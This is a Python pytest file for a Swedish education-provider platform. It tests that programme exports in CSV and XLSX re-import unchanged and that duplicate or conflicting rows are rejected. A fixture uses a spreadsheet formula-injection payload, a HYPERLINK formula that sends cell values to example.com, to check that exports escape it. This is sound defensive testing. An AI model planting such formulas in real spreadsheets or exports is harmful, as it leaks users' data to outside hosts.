"""Export → import → no change: the programme export and the template import share one column set."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from matchplats.core.importing import ImportFileError
from matchplats.taxonomy.models import Kommun, SsykGroup, SunField
from providers.importing import programme_import_file
from providers.models import Intake, Programme, ProgrammeEvent
from providers.services import IntakeSpec, programme_create
from tests.factories import add_member
from tests.providers.test_importing import to_csv

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://example.com/?d="&A2&B2,"Klicka")'


@pytest.fixture
def member_programmes(provider_a):
    member = add_member(provider_a)
    programme_create(
        actor=member, provider=provider_a, name=FORMULA, form="yrkesvux", status="running",
        description="Rad ett\nrad två; semikolon", target_occupations=SsykGroup.objects.filter(code__in=["5321", "5322"]),
        kommuner=Kommun.objects.filter(code__in=["1780", "1784"]), seqf_level=4, length_weeks=60, pace_percent=100,
        language_integrated=True, sun_field=SunField.objects.get(code="481a"),
        intakes=[IntakeSpec(dt.date(2027, 1, 11), 24, dt.date(2026, 11, 15)), IntakeSpec(dt.date(2027, 8, 16), 20)],
    )
    myh = programme_create(actor=member, provider=provider_a, name="+Drifttekniker", form="yh", status="granted",
                           myh_diarienummer="MYH 2024/1001", yh_points=400, application_round=2024, distance=True,
                           kommuner=Kommun.objects.filter(code="1780"),
                           intakes=[IntakeSpec(dt.date(2025, 9, 1), 30, derived=True)])
    Intake.objects.filter(programme=myh).update(derived=True)
    return member


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_of_the_own_programmes_imports_back_with_no_change(client, provider_a, member_programmes,
                                                                   file_format):
    client.force_login(member_programmes)
    export = client.get(reverse("providers:export", args=[file_format]))
    assert export.status_code == 200
    before = (list(Programme.objects.order_by("pk").values()), list(Intake.objects.order_by("pk").values()))
    events = ProgrammeEvent.objects.count()

    result = programme_import_file(actor=member_programmes, data=export.content,
                                   file_name=f"utbildningar.{file_format}", organisation=provider_a)

    assert (result.layout, result.rows, result.created, result.updated, result.unchanged) == (
        "generic", 2, 0, 0, 2)
    assert (list(Programme.objects.order_by("pk").values()), list(Intake.objects.order_by("pk").values())) == before
    assert ProgrammeEvent.objects.count() == events


def test_the_programme_export_writes_swedish_words_and_marks_derived_intakes(client, member_programmes):
    text = client.get(reverse("providers:export", args=["csv"])).content.decode("utf-8")
    assert text.startswith("\ufeffID;Anordnare;Diarienummer;Namn;Utbildningsform;Status")
    assert "Regional yrkesvux;Pågår" in text and "Yrkeshögskola;Beviljad" in text
    assert "2027-01-11:24:2026-11-15|2027-08-16:20" in text and "2025-09-01:30*" in text
    assert "Arvika|Karlstad" in text and "'=HYPERLINK(" in text and "'+Drifttekniker" in text


def test_a_row_repeating_a_stored_programme_without_a_reference_is_flagged_as_a_likely_duplicate(
        provider_a, member_programmes):
    header = ["name", "form", "kommuner", "intakes"]
    same = to_csv([dict(zip(header, ["+Drifttekniker", "yh", "1780", "2025-09-01:30"], strict=True)),
                   dict(zip(header, ["+Drifttekniker", "yh", "1780", "2026-09-01:30"], strict=True))], header)
    result = programme_import_file(actor=member_programmes, data=same, file_name="igen.csv",
                                   organisation=provider_a, dry_run=True)
    stored = Programme.objects.get(myh_diarienummer="MYH 2024/1001")
    assert result.created == 2 and result.likely_duplicates == 1
    assert [item.duplicate_of for item in result.items] == [f"+Drifttekniker (ID {stored.pk})", ""]


def test_the_own_programmes_export_leaves_out_other_providers_and_imports_back(client, provider_a, provider_b,
                                                                            member_programmes):
    from tests.factories import make_programme

    make_programme(provider_b, name="Annans utbildning")
    client.force_login(member_programmes)
    url = client.get(reverse("providers:import")).context["exports"][0][1]
    export = client.get(url)
    assert "Annans utbildning" not in export.content.decode("utf-8")
    result = programme_import_file(actor=member_programmes, data=export.content, file_name="egna.csv",
                                   organisation=provider_a)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_own_export_uploaded_unchanged_on_the_upload_page_previews_and_imports_nothing_new(
        client, settings, tmp_path, provider_a, member_programmes, file_format):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from matchplats.core.models import ImportRun

    settings.IMPORT_UPLOAD_DIR = tmp_path
    client.force_login(member_programmes)
    (_name, *urls), = client.get(reverse("providers:import")).context["exports"]
    export = client.get(urls[["csv", "xlsx"].index(file_format)])
    before = (list(Programme.objects.order_by("pk").values()), list(Intake.objects.order_by("pk").values()))

    preview = client.post(reverse("providers:import"), {
        "organisation": provider_a.pk, "file": SimpleUploadedFile(f"utbildningar.{file_format}", export.content)})
    assert preview.status_code == 200, preview.context.get("errors")
    result = preview.context["result"]
    assert (result.rows, result.created, result.updated, result.unchanged, result.likely_duplicates) == (2, 0, 0, 2, 0)
    assert client.post(preview.context["confirm_url"]).status_code == 302

    run = ImportRun.objects.get()
    assert (run.organisation, run.created, run.updated, run.unchanged) == (provider_a, 0, 0, 2)
    assert (list(Programme.objects.order_by("pk").values()), list(Intake.objects.order_by("pk").values())) == before


def test_the_programme_template_downloads_as_a_workbook_that_imports_like_the_csv(client, provider_a):
    member = add_member(provider_a)
    client.force_login(member)
    workbook = client.get(reverse("providers:import_template_xlsx"))
    assert workbook["Content-Disposition"] == 'attachment; filename="programmes_template.xlsx"'
    csv_file = b"".join(client.get(reverse("providers:import_template")).streaming_content)

    from_xlsx = programme_import_file(actor=member, data=workbook.content, file_name="programmes_template.xlsx",
                                      organisation=provider_a, dry_run=True)
    from_csv = programme_import_file(actor=member, data=csv_file, file_name="programmes_template.csv",
                                     organisation=provider_a, dry_run=True)
    assert from_xlsx.layout == from_csv.layout == "generic"
    assert from_xlsx.created == from_csv.created > 0
    assert [(item.name, item.provider) for item in from_xlsx.items] == [
        (item.name, item.provider) for item in from_csv.items]


def test_a_row_with_an_id_cannot_take_the_case_number_of_another_programme(provider_a, member_programmes):
    formula, myh = Programme.objects.order_by("pk")
    header = ["id", "name", "form", "diarienummer"]
    steal = to_csv([dict(zip(header, [str(formula.pk), "Kapad", "yh", "MYH 2024/1001"], strict=True))], header)
    twice = to_csv([dict(zip(header, [str(formula.pk), "A", "yh", "MYH 2026/9"], strict=True)),
                    dict(zip(header, [str(myh.pk), "B", "yh", "MYH 2026/9"], strict=True))], header)
    for data, where in ((steal, (2, "diarienummer")), (twice, (3, "diarienummer"))):
        with pytest.raises(ImportFileError) as caught:
            programme_import_file(actor=member_programmes, data=data, file_name="x.csv", organisation=provider_a)
        assert [(e.row, e.column) for e in caught.value.errors] == [where]
    assert Programme.objects.get(pk=formula.pk).name == FORMULA


def test_a_copy_of_an_exported_row_without_its_id_is_an_error_not_a_silent_no_change(client, provider_a,
                                                                                     member_programmes):
    from django.utils import translation

    client.force_login(member_programmes)
    text = client.get(reverse("providers:export", args=["csv"])).content.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    row = next(row for row in rows if "HYPERLINK" in row[header.index("Namn")])  # without a case number
    changed = [*row]
    changed[header.index("Distans")] = "Ja"
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerows([header, changed, ["", *row[1:]]])  # a copy without the ID
    data = buffer.getvalue().encode()

    with pytest.raises(ImportFileError) as caught, translation.override("en"):
        programme_import_file(actor=member_programmes, data=data, file_name="kopia.csv", organisation=provider_a)
    with translation.override("en"):
        # the copy starts on line 4: the description above it spans two lines
        assert caught.value.messages == ["row 4, column name: The same programme is already in row 2."]
    assert Programme.objects.get(name=FORMULA).distance is False
